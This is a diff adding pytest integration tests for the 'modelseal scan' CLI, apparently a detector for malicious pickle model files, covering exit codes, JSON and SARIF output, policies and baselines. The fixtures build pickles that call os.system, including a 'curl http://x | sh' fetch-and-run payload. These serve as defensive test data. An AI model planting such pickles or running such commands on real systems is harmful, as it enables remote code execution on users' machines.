@@ -1,0 +1,133 @@
+"""`modelseal scan` as users and CI run it: exit codes, JSON schema, SARIF, thresholds, policy files."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.integration.test_cli import modelseal, no_traceback
+from tests.scanning.pickles import call, global_, stop, system, unicode
+
+
+@pytest.fixture
+def model_tree(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    (root / "sub").mkdir(parents=True)
+    (root / "clean.pkl").write_bytes(stop(call(global_("collections", "OrderedDict"))))
+    (root / "README.md").write_text("# a model\n")
+    return root
+
+
+def test_clean_directory_exits_0(model_tree: Path) -> None:
+    result = modelseal("scan", model_tree)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "PASS" in result.stdout
+
+
+def test_malicious_file_exits_1_and_shows_the_payload(model_tree: Path) -> None:
+    (model_tree / "sub" / "weights.bin").write_bytes(system("curl http://x | sh"))
+    result = modelseal("scan", model_tree)
+    assert result.returncode == 1
+    assert "os.system('curl http://x | sh')" in result.stdout
+    assert "FAIL" in result.stdout
+    no_traceback(result)
+
+
+def test_incomplete_scan_exits_3(model_tree: Path) -> None:
+    (model_tree / "broken.pkl").write_bytes(b"\x80\x04\x95\xff\xff")
+    result = modelseal("scan", model_tree)
+    assert result.returncode == 3 and "INCONCLUSIVE" in result.stdout
+
+
+def test_fail_on_threshold(model_tree: Path) -> None:
+    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))  # HIGH
+    assert modelseal("scan", model_tree).returncode == 1
+    assert modelseal("scan", model_tree, "--fail-on", "critical").returncode == 0
+
+
+def test_json_report_schema(model_tree: Path) -> None:
+    (model_tree / "evil.pt").write_bytes(system())
+    result = modelseal("scan", model_tree, "--format", "json")
+    assert result.returncode == 1
+    document = json.loads(result.stdout)
+    assert document["schema_version"] == 1 and document["fail_on"] == "HIGH"
+    assert document["summary"]["files"] == 3 and document["summary"]["findings"]["CRITICAL"] == 1
+    evil = next(f for f in document["files"] if f["path"].endswith("evil.pt"))
+    assert evil["format"] == "pickle" and evil["status"] == "scanned" and evil["worst"] == "CRITICAL"
+    assert evil["findings"][0]["payload"] == "os.system('touch /tmp/x')"
+    readme = next(f for f in document["files"] if f["path"].endswith("README.md"))
+    assert readme["status"] == "unsupported"
+
+
+def test_sarif_report(model_tree: Path, tmp_path: Path) -> None:
+    (model_tree / "evil.pkl").write_bytes(system())
+    output = tmp_path / "scan.sarif"
+    result = modelseal("scan", "repo", "--format", "sarif", "--output", output, cwd=model_tree.parent)
+    assert result.returncode == 1 and result.stdout == ""
+    sarif = json.loads(output.read_text())
+    assert sarif["version"] == "2.1.0"
+    run = sarif["runs"][0]
+    rule = run["tool"]["driver"]["rules"][0]
+    assert rule["id"] == "PICKLE-DANGEROUS-CALL" and float(rule["properties"]["security-severity"]) >= 9.0
+    location = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
+    assert location["uri"] == "repo/evil.pkl" and not location["uri"].startswith("/")
+
+
+def test_policy_file_extends_the_allowlist(model_tree: Path, tmp_path: Path) -> None:
+    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
+    policy = tmp_path / "policy.toml"
+    policy.write_text('[allow]\nexact = ["mypackage.build"]\n')
+    assert modelseal("scan", model_tree, "--policy", policy).returncode == 0
+
+
+def test_bad_policy_file_exits_2(model_tree: Path, tmp_path: Path) -> None:
+    policy = tmp_path / "policy.toml"
+    policy.write_text("[allow\nexact = 1\n")
+    result = modelseal("scan", model_tree, "--policy", policy)
+    assert result.returncode == 2 and "not valid TOML" in result.stderr
+    no_traceback(result)
+
+
+def test_missing_path_exits_2(tmp_path: Path) -> None:
+    assert modelseal("scan", tmp_path / "nope").returncode == 2
+
+
+def test_baseline_accepts_known_findings_only(model_tree: Path, tmp_path: Path) -> None:
+    (model_tree / "known.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
+    baseline = tmp_path / "baseline.json"
+    assert modelseal("scan", model_tree, "--format", "json", "--output", baseline).returncode == 1
+    accepted = modelseal("scan", model_tree, "--baseline", baseline, "--format", "json")
+    assert accepted.returncode == 0
+    known = next(f for f in json.loads(accepted.stdout)["files"] if f["path"].endswith("known.pkl"))
+    assert known["findings"] == [] and "accepted by the baseline" in known["notes"][0]
+    (model_tree / "new.pkl").write_bytes(system())
+    assert modelseal("scan", model_tree, "--baseline", baseline).returncode == 1
+
+
+def test_policy_ignore_paths_and_severity_overrides(model_tree: Path, tmp_path: Path) -> None:
+    (model_tree / "sub" / "vendored.pkl").write_bytes(system())
+    (model_tree / "user.pkl").write_bytes(stop(call(global_("mypackage", "build"), unicode("x"))))
+    policy = tmp_path / "policy.toml"
+    policy.write_text('[paths]\nignore = ["sub/*"]\n[severity]\nPICKLE-UNKNOWN-CALL = "medium"\n')
+    result = modelseal("scan", model_tree, "--policy", policy, "--format", "json")
+    assert result.returncode == 0, result.stdout
+    paths = [f["path"] for f in json.loads(result.stdout)["files"]]
+    assert not any(p.endswith("vendored.pkl") for p in paths)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("[alow]\nexact = []\n", "unknown table"),
+        ("[allow]\nexakt = []\n", "unknown key"),
+        ('[allow]\nexact = "x"\n', "list of strings"),
+        ('[severity]\nX = "severe"\n', "not a severity"),
+    ],
+)
+def test_malformed_policies_are_rejected_not_ignored(tmp_path: Path, model_tree: Path, text: str, message: str) -> None:
+    policy = tmp_path / "policy.toml"
+    policy.write_text(text)
+    result = modelseal("scan", model_tree, "--policy", policy)
+    assert result.returncode == 2 and message in result.stderr
